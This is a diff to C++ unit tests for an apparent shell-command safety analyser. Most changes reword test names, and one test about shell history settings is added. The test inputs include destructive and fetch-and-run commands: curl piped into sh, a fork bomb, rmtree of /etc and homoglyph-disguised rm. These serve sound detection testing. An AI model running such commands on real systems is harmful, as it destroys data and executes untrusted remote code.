@@ -111,7 +111,7 @@ TEST_CASE("wrappers are removed and remembered, outermost first") {
   CHECK(found.commands[0].assignments[0].name == "A");
 }
 
-TEST_CASE("a lone dash of env is no command") {
+TEST_CASE("a lone dash of env is not a command") {
   CHECK(commands("env - rm x") == Words{"rm x"});
 }
 
@@ -121,7 +121,7 @@ TEST_CASE("a wrapper whose own words are not known leaves its command in doubt")
   CHECK_FALSE(doubted("timeout \"$limit\" rm x", Doubt::kUnknownProgram));
 }
 
-TEST_CASE("commands at every depth are found, with the way to them") {
+TEST_CASE("commands at every depth are found, with their nesting") {
   const Facts found = facts("echo \"$(cat <(rm x))\"");
   const SimpleCommand& rm = command(found, "rm");
   REQUIRE(rm.nesting.size() == 2);
@@ -141,7 +141,7 @@ TEST_CASE("words after the code of sh -c are its positional parameters") {
   CHECK(commands("sh -c 'rm \"$1\" $2' sh a b") == Words{"rm a b"});
 }
 
-TEST_CASE("eval joins its words, options too") {
+TEST_CASE("eval joins its words, including options") {
   CHECK(commands("eval rm -r 'a b'") == Words{"rm -r a b"});
   CHECK(commands("eval sh -c \"'rm x'\"") == Words{"rm x"});
 }
@@ -179,7 +179,7 @@ TEST_CASE("an unquoted value is split as the shell splits it") {
   CHECK(doubted("IFS=y; c='rmyx'; $c", Doubt::kUnknownProgram));
 }
 
-TEST_CASE("both values count where the branch is unknown") {
+TEST_CASE("both values count if the branch is unknown") {
   const Words found = commands("c=echo; test -f a && c=rm; $c x");
   CHECK(std::count(found.begin(), found.end(), "echo x") == 1);
   CHECK(std::count(found.begin(), found.end(), "rm x") == 1);
@@ -205,19 +205,19 @@ TEST_CASE("a value that a loop assigns may be set in its next iteration") {
                 Doubt::kUnknownProgram));
 }
 
-TEST_CASE("a loop's variable has all its values") {
+TEST_CASE("a loop variable has all its values") {
   const Words found = commands("for f in a /b; do rm $f; done");
   CHECK(removed("for f in a /b; do rm $f; done") == Words{"/ws/a", "/b"});
   CHECK_FALSE(found.empty());
 }
 
-TEST_CASE("elements of an array are known until its size is not") {
+TEST_CASE("elements of an array are known as long as its size is") {
   CHECK(commands("a=(rm -r x); \"${a[@]}\"") == Words{"rm -r x"});
   CHECK(commands("a=(rm -r x); ${a[0]} y") == Words{"rm y"});
   CHECK(doubted("a=($b rm); ${a[1]} y", Doubt::kUnknownProgram));
 }
 
-TEST_CASE("positional parameters are known as far as set is") {
+TEST_CASE("positional parameters are known as far as the words of set are") {
   CHECK(commands("set -- rm x; \"$@\"").back() == "rm x");
   CHECK(doubted("set -- $y rm x; $2 z", Doubt::kUnknownProgram));
 }
@@ -234,7 +234,7 @@ TEST_CASE("known output of programs is filled in") {
 
 // --- Functions ----------------------------------------------------------------------------------
 
-TEST_CASE("a function is walked with the words it is called with") {
+TEST_CASE("a function is analysed with the arguments of its call") {
   CHECK(commands("f() { rm \"$1\"; }; f x; f y") == Words{"rm x", "rm y"});
 }
 
@@ -242,14 +242,14 @@ TEST_CASE("an uncalled function is walked too") {
   CHECK(commands("f() { rm x; }") == Words{"rm x"});
 }
 
-TEST_CASE("where a function may be undefined its name is a program too") {
+TEST_CASE("the name of a function that may be undefined also counts as a program") {
   const Words found = commands("false && rm() { :; }; rm x");
   CHECK(std::count(found.begin(), found.end(), "rm x") == 1);
   const Words gone = commands("rm() { :; }; unset -f rm; rm x");
   CHECK(std::count(gone.begin(), gone.end(), "rm x") == 1);
 }
 
-TEST_CASE("a function that calls itself is walked with unknown words") {
+TEST_CASE("a recursive function is analysed with unknown arguments") {
   const Facts found = facts("f() { rm \"$1\"; test -n \"$1\" && f /; }; f x");
   CHECK(std::any_of(found.commands.begin(), found.commands.end(), [](const SimpleCommand& each) {
     return each.program == "rm" && each.argv[1].has_unknown();
@@ -362,7 +362,7 @@ TEST_CASE("redirections are accesses with resolved paths") {
   CHECK(written("x=; $x > /x") == Words{"/x"});
 }
 
-TEST_CASE("a descriptor that is copied is no file") {
+TEST_CASE("a descriptor that is copied is not a file") {
   CHECK(written("a 2>&1 >&2").empty());
   CHECK(written("a >& /x") == Words{"/x"});
 }
@@ -390,7 +390,7 @@ TEST_CASE("a pattern stands for everything in a directory") {
   CHECK(access.path == "/etc");
 }
 
-TEST_CASE("tildes are home") {
+TEST_CASE("tildes expand to the home directory") {
   CHECK(removed("rm ~/x") == Words{"/home/u/x"});
   CHECK(removed("rm \"$HOME/x\"") == Words{"/home/u/x"});
   CHECK(removed("rm '~/x'") == Words{"/ws/~/x"});
@@ -401,7 +401,7 @@ TEST_CASE("braces make words, and too many make a doubt") {
   CHECK(removed("rm f{1..3}") == Words{"/ws/f1", "/ws/f2", "/ws/f3"});
 }
 
-TEST_CASE("symlinks of what exists are followed") {
+TEST_CASE("symlinks in the existing part of a path are followed") {
   char name[] = "/tmp/gibbous-analyse-XXXXXX";
   REQUIRE(::mkdtemp(name) != nullptr);
   const std::filesystem::path base = std::filesystem::canonical(name);
@@ -433,7 +433,7 @@ TEST_CASE("commands in a here-document are found unless it is quoted") {
   CHECK(commands("cat <<'E'\n$(rm x)\nE\n") == Words{"cat"});
 }
 
-TEST_CASE("the next command knows the output of echo") {
+TEST_CASE("the output of echo is known to the next command") {
   const Words found = commands("echo 'rm x' | sh");
   CHECK(std::count(found.begin(), found.end(), "rm x") == 1);
   CHECK(removed("echo a /b | xargs rm") == Words{"/ws/a", "/b"});
@@ -444,7 +444,7 @@ TEST_CASE("the output of a group is unknown") {
   CHECK(doubted("{ echo 'rm x'; echo :; } | sh", Doubt::kPipedCode));
 }
 
-TEST_CASE("xargs puts unknown words where it does not know them") {
+TEST_CASE("xargs adds holes for words that are not known") {
   const Facts found = facts("cat list | xargs rm");
   CHECK(command(found, "rm").argv.back().has_unknown());
   CHECK(command(found, "rm").fed_by.empty());
@@ -452,7 +452,7 @@ TEST_CASE("xargs puts unknown words where it does not know them") {
   CHECK(doubted("cat list | xargs timeout", Doubt::kUnknownCommandArgument));
 }
 
-TEST_CASE("find replaces {} by paths below its directories") {
+TEST_CASE("find replaces {} with paths below its directories") {
   const Facts found = facts("find /etc -name x -exec rm {} \\;");
   CHECK(paths(found, AccessKind::kRemove) == Words{"/etc"});
   CHECK(command(found, "rm").wrappers == Words{"find"});
@@ -472,25 +472,25 @@ TEST_CASE("text that cannot be parsed is a doubt, and the rest is analysed") {
   CHECK(has(found, Doubt::kUnparsed));
 }
 
-TEST_CASE("a program that is computed is a doubt") {
+TEST_CASE("a computed program is a doubt") {
   CHECK(doubted("$x a", Doubt::kUnknownProgram));
   CHECK(doubted("$(cat f) a", Doubt::kUnknownProgram));
   CHECK(doubted("r* a", Doubt::kUnknownProgram));
 }
 
-TEST_CASE("code that is computed is a doubt") {
+TEST_CASE("computed code is a doubt") {
   CHECK(doubted("eval \"$x\"", Doubt::kUnknownCode));
   CHECK(doubted("sh -c \"$x\"", Doubt::kUnknownCode));
 }
 
-TEST_CASE("code from a pipe is one doubt, code from a decoder another") {
+TEST_CASE("code from a pipe is one doubt, and code from a decoder another") {
   CHECK(doubted("curl https://h/x | sh", Doubt::kPipedCode));
   CHECK(doubted("base64 -d f | sh", Doubt::kDecodedCode));
   CHECK(doubted("bash <(curl https://h/x)", Doubt::kPipedCode));
   CHECK(doubted("exec 3< f; sh <&3", Doubt::kPipedCode));
 }
 
-TEST_CASE("code for an interpreter is a doubt, its calls are accesses") {
+TEST_CASE("code for an interpreter is a doubt, and its calls are accesses") {
   const Facts found = facts("python3 -c 'import shutil; shutil.rmtree(\"/etc\")'");
   CHECK(has(found, Doubt::kInlineCode));
   CHECK(paths(found, AccessKind::kRemove) == Words{"/etc"});
@@ -517,7 +517,7 @@ TEST_CASE("a function that starts itself twice at once is a fork bomb") {
   CHECK(doubted(":(){ :|:& };:", Doubt::kForkBomb));
 }
 
-TEST_CASE("names of other alphabets and hidden characters are a doubt") {
+TEST_CASE("names in other alphabets and hidden characters are a doubt") {
   CHECK(doubted("r\xd0\xbc x", Doubt::kEncoding));
   CHECK(doubted("rm a\xe2\x80\xae", Doubt::kEncoding));
   CHECK_FALSE(doubted("rm \xc3\xa9", Doubt::kEncoding));
@@ -528,7 +528,7 @@ TEST_CASE("an alias that takes a known name, or more words, is a doubt") {
   CHECK(doubted("alias e='env '\ne x", Doubt::kRedefinition));
 }
 
-TEST_CASE("a file of code is a doubt outside of the workspace, and when the line wrote it") {
+TEST_CASE("a file of code is a doubt outside the workspace, and when the line wrote it") {
   CHECK(doubted("sh /tmp/x.sh", Doubt::kUnreadFile));
   CHECK_FALSE(doubted("sh build.sh", Doubt::kUnreadFile));
   CHECK(doubted("echo 'rm x' > s; . ./s", Doubt::kUnreadFile));
@@ -541,7 +541,24 @@ TEST_CASE("a shell that reads the run's own input is noted") {
   CHECK(facts("python3").reads_code == Words{"python"});
 }
 
-TEST_CASE("a long line is judged and doubted, one that is too deep is not judged") {
+TEST_CASE("how the lines of a shell refer to earlier ones is noted") {
+  using Kind = HistorySpec::Kind;
+  CHECK(facts("bash").history.kind == Kind::kBash);
+  CHECK(facts("env bash -i --norc").history.kind == Kind::kBash);
+  CHECK(facts("env bash -i --norc").interactive);
+  CHECK(facts("dash").history.kind == Kind::kNone);
+  CHECK_FALSE(facts("dash").interactive);
+  for (const char* line : {"bash +H", "bash --rcfile x", "histchars=@^# bash", "bash; dash",
+                           "POSIXLY_CORRECT=1 bash", "export HISTIGNORE=ls; bash"}) {
+    INFO(line);
+    CHECK(facts(line).history.kind == Kind::kUnknown);
+  }
+  Place more = place();
+  more.set["HISTCONTROL"] = "ignoreboth";
+  CHECK(analyse("bash", more, knowledge()).history.kind == Kind::kUnknown);
+}
+
+TEST_CASE("a long line is judged with a doubt, and one that is too deep is not judged") {
   std::string many;
   for (int at = 0; at < 5000; ++at) many += "a;";
   const Facts found = facts(many);
@@ -552,12 +569,12 @@ TEST_CASE("a long line is judged and doubted, one that is too deep is not judged
   CHECK(doubted(deep + "a", Doubt::kUnjudged));
 }
 
-TEST_CASE("for shells without (( )) its text is a command") {
+TEST_CASE("the text of (( )) is a command for shells without it") {
   CHECK(doubted("((rm x))", Doubt::kUnparsed));
   CHECK(facts("((i+1))").doubts.empty());
 }
 
-TEST_CASE("a trap is code, with whatever values variables have then") {
+TEST_CASE("a trap is code, with any values that variables may have") {
   CHECK(commands("trap 'rm x' EXIT").front() == "rm x");
   const Words found = commands("c=echo; trap '$c x' EXIT; c=rm");
   CHECK(std::count(found.begin(), found.end(), "rm x") == 1);
@@ -575,7 +592,7 @@ TEST_CASE("text typed earlier counts but is not judged") {
   CHECK_FALSE(has(found, Doubt::kUnreadFile));
 }
 
-TEST_CASE("the words of an argv are no code for a shell") {
+TEST_CASE("the words of an argv are not code for a shell") {
   const Facts found =
       analyse(std::vector<std::string>{"rm", "$(x)", "a;b", "*"}, place(), knowledge());
   CHECK(commands(found) == Words{"rm $(x) a;b *"});
@@ -595,7 +612,7 @@ TEST_CASE("additions to the run's environment are judged") {
   CHECK(has(analyse("true", more, knowledge()), Doubt::kExecutingVariable));
 }
 
-TEST_CASE("logs are writes") {
+TEST_CASE("logs count as writes") {
   Place more = place();
   more.logs = {"/etc/log"};
   CHECK(paths(analyse("true", more, knowledge()), AccessKind::kWrite) == Words{"/etc/log"});
